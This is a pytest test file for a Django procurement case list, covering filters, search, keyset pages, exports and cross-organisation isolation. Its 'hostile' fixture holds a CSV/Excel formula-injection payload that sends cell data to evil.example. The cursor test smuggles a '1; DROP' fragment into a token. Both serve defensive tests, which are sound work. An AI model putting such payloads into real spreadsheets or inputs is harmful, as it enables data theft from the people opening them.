"""The case list at scale: filters, search, sorts, keyset pages, exports, and what another organisation sees."""

import csv
import io
import re
from datetime import datetime, timedelta
from decimal import Decimal
from html import unescape
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.core import signing
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from procurement import exports, filters, selectors
from procurement import views as case_views
from procurement.catalogue import CPV, Product
from procurement.models import NeedLine, PurchaseCase
from suppliers.models import SanctionsList, SanctionsScreening, Supplier
from tests import factories
from tests.factories import make_case

PARIS = ZoneInfo("Europe/Paris")
LIST_URL = reverse("procurement:case_list")


def paris(*args) -> datetime:
    return datetime(*args, tzinfo=PARIS)


def english(client):
    """Labels in English (the source strings), whatever the state of the French catalogue."""
    client.cookies["django_language"] = "en"


def references(response) -> list[str]:
    """References of the rows shown, in their order."""
    return re.findall(r'<th scope="row">\s*<a href="[^"]+">([^<]+)</a>', response.content.decode())


def next_url(response) -> str | None:
    body = response.content.decode()
    match = re.search(r'<a class="page-link" href="(\?[^"]*apres=[^"]+)">', body)
    return LIST_URL + unescape(match.group(1)) if match else None


def body_of(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _reshape(case, *, created_at, stage_entered_at, product, description, quantity, unit_price):
    """Test data only: move the case in time and give its need line another product and price."""
    PurchaseCase.objects.filter(pk=case.pk).update(created_at=created_at, stage_entered_at=stage_entered_at)
    NeedLine.objects.filter(case=case).update(
        product=product, description=description, quantity=quantity, estimated_unit_price=unit_price
    )
    return PurchaseCase.objects.get(pk=case.pk)


def _supplier_of(case, name):
    supplier = case.offers.get().supplier
    Supplier.objects.filter(pk=supplier.pk).update(name=name)
    return Supplier.objects.get(pk=supplier.pk)


def _sanctions_list(version, imported_at):
    return SanctionsList.objects.create(
        source=SanctionsList.Source.FR, version=version, imported_at=imported_at, sha256=version * 8
    )


def _screening(supplier, sanctions_list, review, screened_at):
    result = SanctionsScreening.Result.CLEAR if review == "" else SanctionsScreening.Result.POSSIBLE_MATCH
    return SanctionsScreening.objects.create(
        supplier=supplier,
        sanctions_list=sanctions_list,
        screened_at=screened_at,
        result=result,
        review=review,
        matches=[{"name": "Homonyme", "score": 90}] if review else [],
    )


@pytest.fixture
def world(buyer, buyer2, outsider):
    """Five cases of our organisation whose every filtered attribute is known, and one of another."""
    now = timezone.now()
    recent = now - timedelta(hours=1)
    need1 = _reshape(
        make_case(buyer, "need", title="Gants nitrile pour les EHPAD"),
        created_at=paris(2026, 3, 2, 10, 0),
        stage_entered_at=recent,
        product=Product.EXAM_GLOVES,
        description="Gants d'examen en nitrile, taille M",
        quantity=100_000,
        unit_price=Decimal("0.05"),  # 5 000,00 €
    )
    # Created at 23:30 in Paris: 22:30 UTC, still the 5th locally. In its stage for 10 h (target: 4 h).
    need2 = _reshape(
        make_case(buyer2, "need", title="Masques chirurgicaux type IIR"),
        created_at=paris(2026, 3, 5, 23, 30),
        stage_entered_at=now - timedelta(hours=10),
        product=Product.MEDICAL_IIR,
        description="Masques à usage médical",
        quantity=200_000,
        unit_price=Decimal("0.20"),  # 40 000,00 €
    )
    vet1 = _reshape(
        make_case(buyer, "vetting", title="Masques FFP2 — urgence COVID"),
        created_at=paris(2026, 3, 10, 9, 0),
        stage_entered_at=recent,
        product=Product.FFP2,
        description="Masques de protection respiratoire",
        quantity=100_000,
        unit_price=Decimal("0.90"),  # 90 000,00 €
    )
    vet1.buyers.add(buyer2)
    vet2 = _reshape(
        make_case(buyer, "vetting", title="Blouses de protection"),
        created_at=paris(2026, 3, 12, 9, 0),
        stage_entered_at=recent,
        product=Product.GOWNS,
        description="Blouses imperméables à manches longues",
        quantity=10_000,
        unit_price=None,  # not estimated
    )
    vet3 = _reshape(
        make_case(buyer, "vetting", title="Gel hydroalcoolique"),
        created_at=paris(2026, 3, 15, 9, 0),
        stage_entered_at=recent,
        product=Product.SANITISER,
        description="Flacons de 500 ml",
        quantity=100_000,
        unit_price=Decimal("0.90"),  # 90 000,00 €, as vet1
    )
    textiles = _supplier_of(vet1, "Textiles du Sud SARL")
    pending = _supplier_of(vet2, "Comptoir Import Export")
    _supplier_of(vet3, "Hygiène Distribution")
    # Sanctions: textiles was confirmed against an old version of the list, then screened clear against the
    # latest one (not flagged); `pending` awaits a jurist on the latest one (flagged).
    old = _sanctions_list("v1", now - timedelta(days=30))
    latest = _sanctions_list("v2", now - timedelta(days=1))
    _screening(textiles, old, SanctionsScreening.Review.CONFIRMED, now - timedelta(days=20))
    _screening(textiles, latest, "", now - timedelta(hours=2))
    _screening(pending, latest, SanctionsScreening.Review.PENDING, now - timedelta(hours=2))
    # `rejected` was approved when the case started (make_case), then rejected: its latest decision counts.
    factories.vet(vet3, vet3.offers.get(), buyer, decision="rejected")
    # Same words, another organisation (whose references are numbered on their own: URG-2026-0001 too).
    foreign = make_case(outsider, "need", title="Gants nitrile pour les crèches")
    return {
        "need1": need1,
        "need2": need2,
        "vet1": vet1,
        "vet2": vet2,
        "vet3": vet3,
        "foreign": foreign,
        "textiles": textiles,
    }


def _shown(client, user, params) -> set[str]:
    client.force_login(user)
    response = client.get(LIST_URL, params)
    assert response.status_code == 200
    return set(references(response))


FILTERS = [
    ({"status": "need"}, {"need1", "need2"}),
    ({"status": "vetting"}, {"vet1", "vet2", "vet3"}),
    ({"product": Product.EXAM_GLOVES}, {"need1"}),
    ({"overdue": "1"}, {"need2"}),
    ({"montant_min": "40000"}, {"need2", "vet1", "vet3"}),  # inclusive; a case without estimate is left out
    ({"montant_max": "40 000,00"}, {"need1", "need2"}),  # typed the French way
    ({"montant_min": "5000.5", "montant_max": "90000"}, {"need2", "vet1", "vet3"}),
    ({"du": "2026-03-05", "au": "2026-03-05"}, {"need2"}),  # local dates: 23:30 in Paris is still the 5th
    ({"du": "2026-03-10"}, {"vet1", "vet2", "vet3"}),
    ({"au": "04/03/2026"}, {"need1"}),
    ({"signale": "1"}, {"vet2", "vet3"}),
    ({"status": "vetting", "signale": "1", "q": "blouses"}, {"vet2"}),
    # Search: title, need-line description, supplier name, reference; words as prefixes, French stemming.
    ({"q": "nitrile"}, {"need1"}),
    ({"q": "examen"}, {"need1"}),
    ({"q": "chirurg"}, {"need2"}),
    ({"q": "masque"}, {"need2", "vet1"}),
    ({"q": "imperméable"}, {"vet2"}),
    ({"q": "textiles sud"}, {"vet1"}),
    ({"q": "gants EHPAD"}, {"need1"}),
    ({"q": "zzz"}, set()),
    ({"q": "= & | ! ( :* '"}, set()),  # tsquery operators never reach the database
]


@pytest.mark.parametrize(("params", "expected"), FILTERS, ids=[str(p) for p, _ in FILTERS])
def test_each_filter_selects_exactly_the_expected_cases(client, world, buyer, params, expected):
    assert _shown(client, buyer, params) == {world[key].reference for key in expected}


def test_the_buyer_filter_covers_the_lead_and_the_assigned_buyer(client, world, buyer, buyer2):
    assert _shown(client, buyer, {"buyer": buyer2.pk}) == {world["need2"].reference, world["vet1"].reference}


def test_the_supplier_filter_selects_the_cases_it_offered_on(client, world, buyer):
    shown = _shown(client, buyer, {"supplier": world["textiles"].pk})
    assert shown == {world["vet1"].reference}


def test_the_search_finds_a_case_by_its_reference(client, world, buyer):
    assert _shown(client, buyer, {"q": world["vet2"].reference}) == {world["vet2"].reference}


def test_a_bad_filter_value_is_reported_and_ignored_while_the_others_apply(client, world, buyer):
    english(client)
    client.force_login(buyer)
    response = client.get(
        LIST_URL,
        {
            "status": "bogus",
            "buyer": "999999",
            "supplier": "abc",
            "montant_min": "beaucoup",
            "du": "2026-02-30",
            "tri": "hasard",
            "product": Product.EXAM_GLOVES,  # valid: still applies
        },
    )
    assert response.status_code == 200
    body = response.content.decode()
    assert "Some filters were not understood and are not applied" in body
    assert "Select a valid choice" in body
    assert "Enter a number" in body
    assert "Enter a valid date" in body
    assert set(references(response)) == {world["need1"].reference}


@pytest.mark.parametrize(
    "params",
    [
        {"du": "0001-01-01"},
        {"au": "9999-12-31"},
        {"montant_min": "1e999"},
        {"montant_max": "NaN"},
        {"montant_min": "-5"},
        {"q": "x" * 500},
        {"overdue": "0", "signale": "false"},
        {"apres": "x" * 5000},
    ],
)
def test_extreme_values_never_break_the_list_or_the_export(client, world, buyer, params):
    client.force_login(buyer)
    response = client.get(LIST_URL, params)
    assert response.status_code == 200
    assert len(references(response)) == 5  # the extreme criterion is dropped (or off), the list is whole
    assert client.get(EXPORT_CSV, params).status_code == 200


def test_crossed_bounds_are_reported(client, world, buyer):
    english(client)
    client.force_login(buyer)
    response = client.get(
        LIST_URL, {"montant_min": "50000", "montant_max": "1000", "du": "2026-03-10", "au": "2026-03-01"}
    )
    body = response.content.decode()
    assert "The upper bound is below the lower one." in body
    assert "The end date is before the start date." in body
    # The crossed upper bounds are dropped, the lower ones apply.
    assert set(references(response)) == {world["vet1"].reference, world["vet3"].reference}


def test_an_empty_result_says_so_and_offers_to_clear_the_filters(client, world, buyer):
    english(client)
    client.force_login(buyer)
    body = client.get(LIST_URL, {"q": "introuvable"}).content.decode()
    assert "No case matches these filters." in body
    assert f'<a href="{LIST_URL}">Clear the filters</a>' in body


def test_a_row_shows_amount_in_french_time_in_stage_overdue_badge_and_dates(client, world, buyer):
    client.force_login(buyer)
    response = client.get(LIST_URL, {"status": "need"})
    body = response.content.decode()
    assert "40\xa0000,00" in body
    assert "5\xa0000,00" in body
    rows = body.split('<th scope="row">')[1:]
    need2_row = next(row for row in rows if world["need2"].reference in row)
    need1_row = next(row for row in rows if world["need1"].reference in row)
    assert "badge text-bg-danger" in need2_row
    assert "badge text-bg-danger" not in need1_row
    assert "05/03/2026" in need2_row  # created on, local date
    assert str(world["need2"].owner) in need2_row


# --- sorts and keyset pages ----------------------------------------------------------------------
def _expected_order(cases, sort):
    key = selectors.SORTS[sort]

    def amount(case):
        return sum((line.quantity * line.estimated_unit_price for line in case.need_lines.all()), Decimal(0))

    def value(case):
        if key.field == "estimated_amount":
            return None if all(line.estimated_unit_price is None for line in case.need_lines.all()) else amount(case)
        return getattr(case, key.field)

    present = [case for case in cases if value(case) is not None]
    missing = [case for case in cases if value(case) is None]
    present.sort(key=lambda case: (value(case), case.pk), reverse=key.descending)
    missing.sort(key=lambda case: case.pk, reverse=key.descending)
    return [case.reference for case in present + missing]  # NULLs last, both ways


@pytest.mark.parametrize("sort", list(selectors.SORTS))
def test_each_sort_orders_the_rows(client, world, buyer, sort):
    cases = [PurchaseCase.objects.get(pk=world[key].pk) for key in ("need1", "need2", "vet1", "vet2", "vet3")]
    client.force_login(buyer)
    response = client.get(LIST_URL, {"tri": sort})
    assert references(response) == _expected_order(cases, sort)


def test_the_active_column_header_carries_aria_sort_and_links_keep_the_filters(client, world, buyer):
    client.force_login(buyer)
    body = client.get(LIST_URL, {"tri": "-montant", "status": "vetting"}).content.decode()
    assert body.count("aria-sort=") == 1
    assert 'aria-sort="descending"' in body
    # The amount header now reverses the sort; every header keeps the status filter.
    assert "?tri=montant&amp;status=vetting" in body
    assert "?tri=reference&amp;status=vetting" in body


def bulk_cases(owner, count, *, start=0, now=None):
    """`count` cases straight into the tables (not through the services: fast), with ties on every sort key:
    creation and stage dates repeat every 3 cases, amounts every 4, and every 5th case has no estimate."""
    now = now or timezone.now()
    cases = PurchaseCase.objects.bulk_create(
        PurchaseCase(
            organisation_id=owner.organisation_id,
            reference=f"URG-2025-{n:05d}",
            title=f"Dossier de masse {n}",
            owner=owner,
            created_at=now - timedelta(days=30) + timedelta(minutes=n // 3),
            stage_entered_at=now - timedelta(hours=n % 7 // 3 * 5),  # 0, 5 or 10 h: some overdue
        )
        for n in range(start, start + count)
    )
    NeedLine.objects.bulk_create(
        NeedLine(
            case=case,
            product=Product.FFP2,
            description="Masques FFP2",
            quantity=1000 * (1 + n % 4),
            unit=NeedLine._meta.get_field("unit").default,
            cpv_code=CPV.PROTECTIVE_GEAR,
            required_date=timezone.localdate(now) + timedelta(days=10),
            delivery_place="Entrepôt régional",
            estimated_unit_price=None if n % 5 == 0 else Decimal("0.85"),
        )
        for n, case in enumerate(cases, start=start)
    )
    return cases


def _walk(client, params):
    """Follow the "Next" links from the first page; every page's references, in order."""
    pages = []
    url = LIST_URL
    response = client.get(url, params)
    while True:
        assert response.status_code == 200
        pages.append(references(response))
        url = next_url(response)
        if url is None:
            return pages
        response = client.get(url)


@pytest.mark.parametrize("sort", list(selectors.SORTS))
def test_keyset_pages_cover_every_row_exactly_once(client, buyer, monkeypatch, sort):
    monkeypatch.setattr(case_views, "PAGE_SIZE", 7)
    cases = bulk_cases(buyer, 40)
    client.force_login(buyer)
    pages = _walk(client, {"tri": sort})
    shown = [reference for page in pages for reference in page]
    fresh = PurchaseCase.objects.prefetch_related("need_lines").filter(pk__in=[case.pk for case in cases])
    assert shown == _expected_order(list(fresh), sort)
    assert len(shown) == len(set(shown)) == 40
    assert [len(page) for page in pages] == [7] * 5 + [5]


def test_keyset_pages_keep_the_filters(client, buyer, monkeypatch):
    monkeypatch.setattr(case_views, "PAGE_SIZE", 4)
    cases = bulk_cases(buyer, 20)
    client.force_login(buyer)
    pages = _walk(client, {"montant_min": "1", "tri": "montant"})
    shown = [reference for page in pages for reference in page]
    assert len(shown) == len(set(shown)) == len([n for n in range(20) if n % 5]) == 16
    assert {case.reference for case in cases if int(case.reference[-5:]) % 5} == set(shown)


def test_a_forged_or_foreign_cursor_gives_the_first_page(client, buyer, monkeypatch):
    monkeypatch.setattr(case_views, "PAGE_SIZE", 5)
    bulk_cases(buyer, 12)
    client.force_login(buyer)
    first = references(client.get(LIST_URL))
    second = references(client.get(next_url(client.get(LIST_URL))))
    assert second
    assert second != first
    newest = PurchaseCase.objects.order_by("-created_at", "-pk").first()
    forged = [
        "n'importe quoi",
        signing.dumps(["-cree", newest.created_at.isoformat(), newest.pk], salt="other"),  # not our signature
        filters.encode_cursor("montant", (Decimal("1"), newest.pk)),  # a cursor of another sort
        signing.dumps(["-cree", "pas une date", 1], salt=filters.CURSOR_SALT),
        signing.dumps(["-cree", "2026-01-01T00:00:00", 1], salt=filters.CURSOR_SALT),  # naive date
        signing.dumps(["-cree", newest.created_at.isoformat(), "1; DROP"], salt=filters.CURSOR_SALT),
        signing.dumps({"a": 1}, salt=filters.CURSOR_SALT),
    ]
    for token in forged:
        response = client.get(LIST_URL, {"apres": token})
        assert response.status_code == 200, token
        assert references(response) == first, token


# --- query counts --------------------------------------------------------------------------------
def _queries(client, url, params=None) -> tuple[int, object]:
    with CaptureQueriesContext(connection) as context:
        response = client.get(url, params or {})
    assert response.status_code == 200
    return len(context.captured_queries), response


LISTS = [
    {},
    {"tri": "-montant"},
    {"tri": "etape", "status": "need", "q": "masse", "montant_min": "100", "du": "2020-01-01", "signale": ""},
    {"overdue": "1", "product": Product.FFP2, "tri": "reference"},
]


@pytest.mark.parametrize("params", LISTS, ids=[str(p) for p in LISTS])
def test_the_query_count_of_the_list_does_not_grow_with_the_cases(client, buyer, params, settings):
    settings.CASE_LIST_CACHE_SECONDS = 0  # the rendering's queries, not a kept page's
    client.force_login(buyer)
    bulk_cases(buyer, 10)
    client.get(LIST_URL)  # session, groups and the like loaded once
    small, response = _queries(client, LIST_URL, params)
    assert next_url(response) is None
    bulk_cases(buyer, 490, start=10)
    large, response = _queries(client, LIST_URL, params)
    assert large == small
    deep_url = next_url(response)
    for _ in range(3):
        deep, response = _queries(client, deep_url)
        assert deep == small
        deep_url = next_url(response)


# --- exports -------------------------------------------------------------------------------------
EXPORT_CSV = reverse("procurement:case_list_export", args=["csv"])
EXPORT_XLSX = reverse("procurement:case_list_export", args=["xlsx"])


def _csv_rows(response) -> list[list[str]]:
    raw = body_of(response)
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM, else French Excel reads Windows-1252"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))


def _xlsx_rows(response) -> list[tuple]:
    workbook = openpyxl.load_workbook(io.BytesIO(body_of(response)))
    return list(workbook.active.iter_rows(values_only=True))


@pytest.fixture
def hostile(buyer):
    """A case whose object a spreadsheet would run as a formula."""
    case = make_case(buyer, "need", title='=HYPERLINK("https://evil.example/?d="&A1,"Voir")')
    return _reshape(
        case,
        created_at=paris(2026, 4, 1, 8, 5),
        stage_entered_at=paris(2026, 4, 1, 8, 5),
        product=Product.FFP2,
        description="@SUM(1+1)",
        quantity=100_000,
        unit_price=Decimal("0.8550"),  # 85 500,00 €
    )


def test_csv_export_is_french_excel_ready_and_neutralised(client, world, hostile, buyer):
    english(client)
    client.force_login(buyer)
    response = client.get(EXPORT_CSV, {"status": "need"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="dossiers-')
    header, *rows = _csv_rows(response)
    assert header == [
        "Reference",
        "Object of the purchase",
        "Stage",
        "Lead buyer",
        "Created at",
        "In this stage since",
        "Overdue",
        "Estimated amount excl. VAT (€)",
        "Products",
        "Suppliers",
    ]
    by_reference = {row[0]: row for row in rows}
    assert set(by_reference) == {world["need1"].reference, world["need2"].reference, hostile.reference}
    row = by_reference[hostile.reference]
    assert row[1] == '\'=HYPERLINK("https://evil.example/?d="&A1,"Voir")'
    assert row[2] == "Need"
    assert row[4] == row[5] == "01/04/2026 08:05"  # Europe/Paris
    assert row[6] == "yes"
    assert row[7] == "85500,00"  # decimal comma, no thousands separator: Excel reads it as a number
    assert row[8] == str(Product.FFP2.label)
    need2 = by_reference[world["need2"].reference]
    assert need2[4] == "05/03/2026 23:30"
    assert need2[7] == "40000,00"


def test_csv_export_lists_every_matching_case_not_one_page(client, buyer):
    bulk_cases(buyer, 120)
    client.force_login(buyer)
    header, *rows = _csv_rows(client.get(EXPORT_CSV, {"tri": "reference"}))
    assert [row[0] for row in rows] == [f"URG-2025-{n:05d}" for n in range(120)]
    assert rows[0][7] == ""  # no estimate
    assert rows[1][7] == "1700,00"  # 2 000 × 0,85 €


def test_export_suppliers_column_and_supplier_filter(client, world, buyer):
    english(client)
    client.force_login(buyer)
    header, *rows = _csv_rows(client.get(EXPORT_CSV, {"supplier": world["textiles"].pk}))
    assert [row[0] for row in rows] == [world["vet1"].reference]
    assert rows[0][9] == "Textiles du Sud SARL"


def test_xlsx_export_keeps_types_and_neutralises_formulas(client, world, hostile, buyer):
    english(client)
    client.force_login(buyer)
    response = client.get(EXPORT_XLSX, {"status": "need", "tri": "cree"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    header, *rows = _xlsx_rows(response)
    assert header[0] == "Reference"
    assert len(header) == 10
    assert [row[0] for row in rows] == [world["need1"].reference, world["need2"].reference, hostile.reference]
    last = rows[-1]
    assert last[1] == '\'=HYPERLINK("https://evil.example/?d="&A1,"Voir")'
    assert last[4] == datetime(2026, 4, 1, 8, 5)  # local time
    assert last[7] == Decimal("85500") or last[7] == 85500
    workbook = openpyxl.load_workbook(io.BytesIO(body_of(client.get(EXPORT_XLSX, {"status": "need"}))))
    formulas = [cell for row in workbook.active.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []


def test_export_stops_at_the_cap_and_says_so(client, buyer, monkeypatch):
    monkeypatch.setattr(exports, "EXPORT_MAX_ROWS", 3)
    bulk_cases(buyer, 5)
    english(client)
    client.force_login(buyer)
    header, *rows = _csv_rows(client.get(EXPORT_CSV))
    assert len(rows) == 4
    assert rows[-1] == ["Export stopped at 3 rows: narrow the filters to get the others."]
    header, *rows = _xlsx_rows(client.get(EXPORT_XLSX))
    assert len(rows) == 4
    assert rows[-1][0] == "Export stopped at 3 rows: narrow the filters to get the others."


def test_the_list_links_to_the_exports_with_its_filters(client, world, buyer):
    client.force_login(buyer)
    body = client.get(LIST_URL, {"status": "need", "q": "gants"}).content.decode()
    assert f'href="{EXPORT_CSV}?status=need&amp;q=gants"' in body
    assert f'href="{EXPORT_XLSX}?status=need&amp;q=gants"' in body


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Masques = 2 €", "Masques = 2 €"),
        ("", ""),
        (Decimal("-2"), Decimal("-2")),
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert exports.neutralise(value) == expected


# --- another organisation ------------------------------------------------------------------------
def case_links(response) -> list[str]:
    return re.findall(r'<th scope="row">\s*<a href="([^"]+)">', response.content.decode())


def test_the_outsider_sees_none_of_our_cases_in_the_list_or_the_exports(client, world, outsider):
    client.force_login(outsider)
    foreign = world["foreign"]
    assert case_links(client.get(LIST_URL)) == [foreign.get_absolute_url()]
    # Not even through a filter naming our supplier, our buyer, or words of our cases.
    for params in ({"supplier": world["textiles"].pk}, {"buyer": world["need1"].owner_id}, {"q": "gants"}):
        assert case_links(client.get(LIST_URL, params)) == [foreign.get_absolute_url()]
    assert case_links(client.get(LIST_URL, {"q": "blouses"})) == []
    header, *rows = _csv_rows(client.get(EXPORT_CSV))
    assert [row[:2] for row in rows] == [[foreign.reference, foreign.title]]
    header, *rows = _xlsx_rows(client.get(EXPORT_XLSX, {"q": "gants"}))
    assert [row[:2] for row in rows] == [(foreign.reference, foreign.title)]


def test_an_unknown_export_format_is_not_found(client, buyer):
    client.force_login(buyer)
    assert client.get(LIST_URL + "export.pdf").status_code == 404
